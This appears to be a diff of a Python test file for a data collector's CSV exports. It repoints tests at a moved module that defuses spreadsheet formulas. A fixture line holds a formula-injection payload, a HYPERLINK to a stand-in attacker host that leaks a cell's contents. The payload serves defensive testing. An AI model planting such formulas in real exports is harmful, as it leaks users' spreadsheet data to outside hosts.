@@ -14,7 +14,7 @@ from cli_store import store_runner
 from sqlalchemy import update
 
 from collector.cli import cli
-from storage.export_csv import FORMULA_STARTS
+from collector.writers.csv_writer import FORMULA_STARTS
 
 REPO = Path(__file__).resolve().parents[2]
 HOSTILE_SIGNAL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -58,9 +58,9 @@ def test_sites_json_and_table_keep_the_text(hostile_store):
 
 
 def test_every_csv_writer_uses_the_shared_defusing():
-    """No CSV writer of isop's own bypasses storage/export_csv.py's cell functions."""
+    """No CSV writer of isop's own bypasses collector/writers/csv_writer.py's cell functions."""
     found = subprocess.run(["grep", "-rlE", r"csv\.(writer|DictWriter)", "collector", "storage", "enrich", "spiders"],
                            cwd=REPO, capture_output=True, text=True).stdout.split()
-    assert sorted(found) == ["collector/analyst.py", "storage/export_csv.py"], found
+    assert sorted(found) == ["collector/analyst.py", "collector/writers/csv_writer.py"], found
     analyst = (REPO / "collector" / "analyst.py").read_text()
     assert "joined_cell" in analyst and "cell(" in analyst
